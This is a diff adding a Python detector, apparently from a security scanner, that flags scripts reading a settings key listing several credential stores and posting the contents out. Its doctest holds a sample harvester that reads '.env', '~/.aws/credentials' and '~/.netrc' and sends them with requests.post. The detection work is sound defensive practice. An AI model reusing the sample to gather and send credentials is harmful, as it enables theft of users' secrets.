@@ -1,0 +1,112 @@
+"""A list of credential stores kept in the package's settings, read by a script that sends
+data out (AITech 8.2).
+
+The family (a harvest whose targets moved into configuration): the code names no
+credential file at all; it reads a settings key such as ``"default_sources": [".env",
+"~/.codex/auth.json", "~/.aws/credentials"]``, reads every path listed there ("to fill in
+placeholder defaults", "for diagnostics") and posts what it found to a service. The
+evidence joins both halves: a key listing two or more credential stores, and a script that
+reads that key and sends data out. One credential file named in settings (the profile an
+AWS tool signs in with) is a tool's configuration, not a sweep.
+
+>>> code = ("import requests, tomllib\\ncfg = tomllib.load(open('config/sync.toml', 'rb'))\\n"
+...     "found = {p: open(p).read() for p in cfg['sources']}\\nrequests.post(URL, json=found)\\n")
+>>> files = {"config/sync.toml": 'sources = [".env", "~/.aws/credentials", "~/.netrc"]\\n',
+...     "scripts/s.py": code}
+>>> [(f.file, f.line, f.rule_id) for f in settings_credential_findings(files)]
+[('scripts/s.py', 3, 'credential-harvest')]
+>>> one = 'sources = ["~/.aws/credentials"]\\n'
+>>> settings_credential_findings({**files, "config/sync.toml": one})
+[]
+"""
+
+from __future__ import annotations
+
+import ast
+import re
+from collections.abc import Mapping
+
+from .family_detectors import EXFIL_SERVICE, KEY_FILE, UPLOAD
+from .findings import ThreatFinding, line_finding
+from .literal_scan import folded_text, scanner_for
+from .normalise_python import parse_module
+from .sensitive import CREDENTIAL_PATH
+from .settings_targets import package_entries, reads_key
+from .structure import PYTHON, classify
+from .textutil import is_test_file
+
+RULE_ID = "credential-harvest"
+_SWEEP = 2
+"""Credential stores one key must list to be a sweep rather than a tool's own sign-in."""
+
+
+def settings_credential_findings(files: Mapping[str, str]) -> list[ThreatFinding]:
+    """A finding per Python script that reads a settings key listing credential stores and
+    sends data out."""
+    keys = _keys_listing_stores(dict(files))
+    if not keys:
+        return []
+    findings = []
+    for path, text in files.items():
+        if is_test_file(path) or classify(path, text) != PYTHON:
+            continue
+        if not any(key in text for key in keys) or not _sends(text):
+            continue
+        line = _first_key_read(text, keys)
+        if line is None:
+            continue
+        number, key = line
+        findings.append(
+            line_finding(
+                path,
+                text.splitlines(),
+                number,
+                "8.2",
+                "critical",
+                f"credential harvesting: reads the credential stores settings key {key!r} lists "
+                f"({', '.join(keys[key][:3])}) and sends data out",
+                RULE_ID,
+            )
+        )
+    return findings
+
+
+def _keys_listing_stores(files: dict[str, str]) -> dict[str, list[str]]:
+    """Settings keys whose list value names two or more credential stores, with them."""
+    keys: dict[str, list[str]] = {}
+    for key, value in package_entries(files):
+        if isinstance(value, str):
+            continue
+        stores = [item for item in value if _is_store(item.strip())]
+        if len(set(stores)) >= _SWEEP:
+            keys.setdefault(key, stores)
+    return keys
+
+
+def _is_store(item: str) -> bool:
+    return bool(CREDENTIAL_PATH.search(item) or KEY_FILE.search(item))
+
+
+_BODY_SENT = re.compile(r"\bRequest\([^\n]*\bdata\s*=|[\"'](?:POST|PUT|PATCH)[\"']")
+"""A request given a body, or a method that carries one, named as a string."""
+
+
+def _sends(text: str) -> bool:
+    folded = folded_text(text)
+    return any(scanner_for(regex).search(folded) for regex in (UPLOAD, EXFIL_SERVICE, _BODY_SENT))
+
+
+def _first_key_read(text: str, keys: Mapping[str, list[str]]) -> tuple[int, str] | None:
+    """(line, key) of the first read of one of ``keys`` (``cfg["key"]``, ``.get("key")``)."""
+    try:
+        tree = parse_module(text).tree
+    except (SyntaxError, ValueError, RecursionError, MemoryError):
+        return None
+    reads = [
+        (node.lineno, key)
+        for node in ast.walk(tree)
+        if isinstance(node, (ast.Subscript, ast.Call))
+        for key in keys
+        if reads_key(node, key)
+    ]
+    return min(reads) if reads else None
